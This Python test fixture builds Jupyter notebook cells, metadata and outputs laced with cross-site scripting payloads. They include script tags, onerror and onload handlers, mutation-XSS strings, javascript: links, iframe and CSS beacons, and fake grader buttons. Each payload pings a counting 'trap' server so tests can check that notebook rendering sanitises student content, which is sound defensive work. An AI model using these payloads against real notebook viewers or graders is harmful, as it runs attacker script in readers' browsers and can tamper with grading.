"""Parts of a notebook that try to run scripts in the browser of the person who reads it.

Entry points: `payloads`, `hostile_cells`, `hostile_metadata`, `hostile_outputs`. Every script sets
`window.owned` and requests an address below `trap`, the URL of a server that counts requests.
"""

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

SCRIPT = "window.owned=1;fetch('{trap}/{name}')"
# One pixel.
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwADAgH/"
    "p2kyBwAAAABJRU5ErkJggg=="
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{script}">'
    '<script>{script}</script><circle r="9" fill="red"/></svg>'
)

PAYLOADS = {
    "script": "<script>{script}</script>",
    "module": '<script type="module">{script}</script>',
    "remote-script": '<script src="{trap}/script.js"></script>',
    "mathjax-config": '<script type="text/x-mathjax-config">{script}</script>',
    "img-onerror": '<img src="missing.png" onerror="{script}">',
    "img-unquoted": "<img src=x.png onerror={script}//",
    "remote-img": '<img src="{trap}/img.png"><img srcset="{trap}/img.png 1x">',
    "scheme-less-img": '<img src="//{host}/img.png">',
    "formgrader-img": '<img src="/formgrader/?path=/course/submitted/eve">',
    "svg": '<svg onload="{script}"><script>{script}</script><animate onbegin="{script}"/></svg>',
    "svg-foreign": '<svg><foreignObject><iframe src="javascript:{script}"/></foreignObject></svg>',
    "math": '<math><mtext><img src=x onerror="{script}"></mtext></math>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror={script}>"></noscript>',
    "mutation-style": '<svg></p><style><a id="</style><img src=1 onerror={script}>"></svg>',
    "mutation-math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror={script}&gt;"></table>'
    ),
    "comment": "<!--><img src=x onerror={script}>-->",
    "textarea": "</textarea></title></style></script><img src=x onerror={script}>",
    "iframe": '<iframe src="javascript:parent.{script}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;parent.{script}&lt;/script&gt;"></iframe>',
    "iframe-data": '<iframe src="data:text/html,&lt;script src={trap}/x&gt;"></iframe>',
    "object": '<object data="{trap}/object"></object><embed src="{trap}/embed">',
    "refresh": '<meta http-equiv="refresh" content="0;url={trap}/refresh">',
    "base": '<base href="{trap}/">',
    "link": '<link rel="stylesheet" href="{trap}/style.css">',
    "style": '<style>@import "{trap}/style.css"; body {{background: url({trap}/bg)}}</style>',
    "style-attribute": '<div style="background:url({trap}/bg);position:fixed">over all</div>',
    "style-of-cell": '<table><td style="background:url({trap}/bg);position:fixed">x</table>',
    "form": '<form action="{trap}/form"><input autofocus onfocus="{script}"></form>',
    "details": '<details open ontoggle="{script}"><summary>more</summary>text</details>',
    "video": '<video onerror="{script}"><source src="{trap}/v" onerror="{script}"></video>',
    "focus": '<a href="javascript:{script}" autofocus onfocus="{script}">link</a>',
    "animation": '<b style="animation-name:x" onanimationstart="{script}">b</b>',
    # Not scripts: elements on which formgrader would act as on its own buttons and inputs.
    "grader-button": '<span class="full-credit" style="display:block">Read me</span>',
    "grader-input": '<div class="nbgrader_cell"><input id="test-double-values"></div>',
    "tooltip": '<b data-toggle="tooltip" data-template="{script}" title="t">b</b>',
}

MARKDOWN = """\
[run](javascript:{script}) <javascript:{script}> [files](files/javascript:{script})
![fetch]({trap}/markdown.png)

$\\href{{javascript:{script}}}{{x}}$ and $W^T x < y$ stay. `code <b>` and **bold** too.

# test-double-values

```html
<script>{script}</script>
```
"""
ATTACHED = "![png](attachment:kept.png) ![svg](attachment:kept.svg) ![html](attachment:page.html)\n"


def payloads(trap: str) -> dict[str, str]:
    """Return {name: HTML} of `PAYLOADS`, with scripts that request addresses below `trap`."""
    host = trap.removeprefix("http://")
    return {
        name: html.format(script=SCRIPT.format(trap=trap, name=name), trap=trap, host=host)
        for name, html in PAYLOADS.items()
    }


def hostile_cells(trap: str) -> list[NotebookNode]:
    """Return cells that a student can add: Markdown with attachments, raw HTML, and code."""
    script = SCRIPT.format(trap=trap, name="cell")
    attachments = {
        "kept.png": {"image/png": PNG},
        "kept.svg": {"image/svg+xml": _base64(SVG.format(script=script))},
        "page.html": {"text/html": _base64(f"<script>{script}</script>")},
    }
    text = ATTACHED + MARKDOWN.format(script=script, trap=trap)
    metadata = {
        "tags": ['x" onmouseover="' + script, "x full-credit"],
        "raw_mimetype": "text/html",
        "title": f"</title><script>{script}</script>",
        "alt": f'"><script>{script}</script>',
    }
    return [
        new_markdown_cell(text, attachments=attachments, metadata=metadata),
        *(new_markdown_cell(html) for html in payloads(trap).values()),
        *(new_raw_cell(html, metadata=metadata) for html in payloads(trap).values()),
        new_code_cell(f"x = 1  # </pre><script>{script}</script>", metadata=metadata),
    ]


def hostile_metadata(trap: str) -> dict:
    """Return hostile metadata of a notebook: its title, its language, the state of widgets."""
    script = SCRIPT.format(trap=trap, name="metadata")
    state = {"state": {"w": {"model_name": f"</script><script>{script}</script>"}}}
    return {
        "title": f"</title><script>{script}</script>",
        "language_info": {"name": f'"><script>{script}</script>'},
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
    }


def hostile_outputs(trap: str) -> list[NotebookNode]:
    """Return outputs of every type, each with scripts, and some with a picture to be kept."""
    script = SCRIPT.format(trap=trap, name="output")
    tag = f"<script>{script}</script>"
    # The templates of nbconvert write the width without quotes.
    sizes = {"image/png": {"width": f"1 onerror={script}", "height": 7}, "alt": f'">{tag}'}
    isolated = {"text/html": {"isolated": True}}
    return [
        *(new_output("display_data", {"text/html": html}) for html in payloads(trap).values()),
        new_output("display_data", {"text/html": tag}, metadata=isolated),
        new_output("display_data", {"text/markdown": MARKDOWN.format(script=script, trap=trap)}),
        new_output("display_data", {"text/latex": f"$\\href{{javascript:{script}}}{{x}}$ {tag}"}),
        new_output("display_data", {"image/svg+xml": SVG.format(script=script)}),
        new_output("display_data", {"image/png": PNG}, metadata=sizes),
        new_output("display_data", {"image/png": f'"><script>{script}</script>'}),
        new_output("display_data", {"application/javascript": script, "text/plain": tag}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "w"}}),
        new_output("display_data", {"text/vnd.mermaid": tag}),
        new_output("execute_result", {"text/plain": f"\x1b[31m{tag}\x1b[0m"}),
        new_output("stream", name="stdout", text=f"\x1b[1m{tag}"),
        new_output("error", ename=tag, evalue=tag, traceback=[f"\x1b[31m{tag}", tag]),
    ]


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()
